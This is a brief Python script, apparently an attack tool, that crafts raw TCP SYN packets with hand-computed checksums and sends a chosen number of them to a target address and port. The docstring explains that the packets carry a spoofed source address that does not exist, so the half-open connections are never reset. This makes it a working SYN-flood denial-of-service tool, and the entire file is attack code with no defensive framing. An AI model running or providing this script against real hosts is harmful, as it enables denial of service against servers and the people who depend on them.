"""Sends SYNs over IPv4 that nobody will complete: syns.py COUNT ADDRESS PORT

They come from an address that is not there, so that no kernel resets what they have begun.
"""

import socket
import struct
import sys

SOURCE = socket.inet_aton("10.10.0.77")


def checksum(data):
    """RFC 1071, of whole words."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source_port, address, port):
    def segment(check):
        return struct.pack("!HHIIBBHHH", source_port, port, 1, 0, 5 << 4, 2, 64240, check, 0)

    pseudo = SOURCE + address + struct.pack("!HH", socket.IPPROTO_TCP, 20)
    # The kernel fills in length, identification and checksum of the IP header.
    header = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0) + SOURCE + address
    return header + segment(checksum(pseudo + segment(0)))


count, address, port = sys.argv[1:]
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
    for n in range(int(count)):
        raw.sendto(syn(40000 + n, socket.inet_aton(address), int(port)), (address, 0))
